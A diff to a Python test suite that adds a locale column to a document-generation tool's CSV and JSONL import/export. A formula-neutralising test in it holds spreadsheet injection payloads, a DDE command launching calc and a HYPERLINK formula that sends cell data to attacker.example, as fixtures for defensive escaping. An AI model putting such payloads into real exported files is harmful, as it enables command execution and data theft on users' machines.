@@ -802,7 +802,7 @@ def test_a_csv_header_with_unknown_or_repeated_columns_or_no_kind_or_id_is_refus
 
     assert str(refused.value) == (
         f"{path}: the first line must be the header kind,id,name,text,greeting,description,"
-        "attributes (or kind, id and any of the others, in any order)"
+        "locale,attributes (or kind, id and any of the others, in any order)"
     )
     assert stored(aws) == SEEDED
 
@@ -881,8 +881,8 @@ def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
 
     assert summary.line() == "exported 6 rows: 4 customers, 2 templates"
     assert exported.read_bytes().startswith(
-        b"kind,id,name,text,greeting,description,attributes\r\n"
-        b"customer,TestCustomer,Testing Customer,,,,\r\n"
+        b"kind,id,name,text,greeting,description,locale,attributes\r\n"
+        b"customer,TestCustomer,Testing Customer,,,,,\r\n"
     )
     create_table(aws.dynamodb, "docgen-copy")
     assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (6, 6, 0, 0, 0, 0)
@@ -892,6 +892,49 @@ def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
         "{% for key, value in attributes|dictsort %}- {{ key }}: {{ value }}\n{% endfor %}"
     }
     assert log.getvalue() == ""
+
+
+def test_a_templates_locale_goes_through_both_formats_and_a_bad_one_is_a_bad_row(
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
+) -> None:
+    unknown = "is not one docgen knows; use a BCP 47 tag such as de-DE"
+    from_jsonl = run(
+        jsonl(
+            tmp_path,
+            template("German", "Hallo", locale="de-DE"),
+            template("Unknown", "x", locale="xx-YY"),
+            template("Long", "x", locale="a" * 36),
+        )
+    )
+    from_csv = run(
+        csv_file(tmp_path, "kind,id,text,locale", "template,Swiss,Grüezi,de_CH", "template,Bad,x,@")
+    )
+
+    assert from_jsonl.problems == [
+        Problem(2, f"locale 'xx-YY' {unknown}"),
+        Problem(3, "locale must be shorter than or equal to 35 characters"),
+    ]
+    assert from_csv.problems == [Problem(3, f"locale '@' {unknown}")]
+    assert stored(aws)["D#German"]["locale"] == {"S": "de-DE"}  # as given
+    assert stored(aws)["D#Swiss"]["locale"] == {"S": "de_CH"}
+    for name in ("export.jsonl", "export.csv"):
+        exported = tmp_path / name
+        export_file(exported, on_table(slept), log=log)
+        copy = f"docgen-{exported.suffix[1:]}"
+        create_table(aws.dynamodb, copy)
+        assert counts(run(exported, repository=on_table(slept, copy))) == (4, 4, 0, 0, 0, 0)
+        assert without_version(stored(aws, copy)) == without_version(stored(aws))
+    exported_rows = (tmp_path / "export.jsonl").read_text(encoding="utf-8").splitlines()
+    assert '{"kind": "template", "docType": "German", "text": "Hallo", "locale": "de-DE"}' in (
+        exported_rows
+    )
+    exported_csv = (tmp_path / "export.csv").read_bytes().decode("utf-8")
+    assert "template,Swiss,,Grüezi,,,de_CH,\r\n" in exported_csv.splitlines(keepends=True)
+    assert log.getvalue().splitlines() == [
+        f"{tmp_path / 'rows.jsonl'}:2: locale 'xx-YY' {unknown}",
+        f"{tmp_path / 'rows.jsonl'}:3: locale must be shorter than or equal to 35 characters",
+        f"{tmp_path / 'rows.csv'}:3: locale '@' {unknown}",
+    ]  # the exports and their imports said nothing
 
 
 def test_csv_export_warns_about_what_csv_cannot_hold(
@@ -1048,13 +1091,13 @@ def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
     assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
     assert text.splitlines(keepends=True)[1:8] == [
-        "customer,TestCustomer,Testing Customer,,,,\r\n",
-        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}"\r\n',
-        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,'
+        "customer,TestCustomer,Testing Customer,,,,,\r\n",
+        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}"\r\n',
+        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,,'
         '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}"\r\n',
-        "customer,marked,''=not a formula,,,,\r\n",
-        'customer,minus,\'-5,,,,"{""at"": ""@SUM(A1)""}"\r\n',
-        'customer,quoted,\'\'Tis,,,,"{""note"": ""\'\'twice""}"\r\n',
+        "customer,marked,''=not a formula,,,,,\r\n",
+        'customer,minus,\'-5,,,,,"{""at"": ""@SUM(A1)""}"\r\n',
+        'customer,quoted,\'\'Tis,,,,,"{""note"": ""\'\'twice""}"\r\n',
         "template,Tabbed,,'\tindented,\"'\r\n",
     ]
     create_table(aws.dynamodb, "docgen-copy")
